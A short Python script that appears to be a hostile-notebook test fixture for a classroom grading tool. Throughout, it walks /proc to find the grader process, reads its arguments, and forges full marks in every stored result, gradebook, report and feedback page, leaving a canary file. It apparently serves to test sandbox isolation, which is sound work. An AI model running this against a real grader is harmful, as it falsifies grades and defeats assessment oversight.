# Find the grader's --out folder in the command lines of this kernel's ancestors, then forge
# full marks everywhere in it: gradebook, class report, feedback pages, and every stored result
# (with the very key the grader would compute, to be reused by a later run).
import os
from pathlib import Path

from labkit.grading.classroom import Kit, find_release
from labkit.grading.gradebook import ResultStore, submission_key
from labkit.grading.results import NotebookResult, StudentResult, Verdict

found = None
pid = os.getppid()
while pid > 1 and found is None:
    args = Path(f"/proc/{pid}/cmdline").read_bytes().decode().split("\0")
    if "grade" in args and "--out" in args:
        cwd = Path(os.readlink(f"/proc/{pid}/cwd"))
        found = (cwd / args[args.index("grade") + 1], cwd / args[args.index("--out") + 1], float(args[args.index("--timeout") + 1]))
    pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
submissions, out, timeout = found
kit = Kit.load(find_release(None), ["01_users_and_groups"], timeout=timeout)
store = ResultStore(out)
for folder in sorted(p for p in submissions.iterdir() if p.is_dir()):
    verdicts = [Verdict(c["id"], True, c["points"], c["points"], c["hidden"]) for c in kit.checks]
    forged = StudentResult(folder.name, [NotebookResult("01_users_and_groups", "graded", [], verdicts)])
    store.save(forged, submission_key(folder, ["01_users_and_groups"], kit.key))
    (out / "feedback").mkdir(exist_ok=True)
    (out / "feedback" / f"{folder.name}.html").write_text("13/13: full marks")
(out / "feedback" / "a_student_who_does_not_exist.html").write_text("13/13: full marks")
(out / "gradebook.csv").write_text("student,total,max\nwrites_to_output_folder,13,13\n")
(out / "gradebook.json").write_text("{}")
(out / "report.html").write_text("everyone gets full marks")
(out / "feedback" / "extra").mkdir(exist_ok=True)
(out / "feedback" / "extra" / "page.html").write_text("13/13: full marks")
(out.parent / "forged-by-a-kernel.txt").write_text(f"the kernel wrote into {out}")
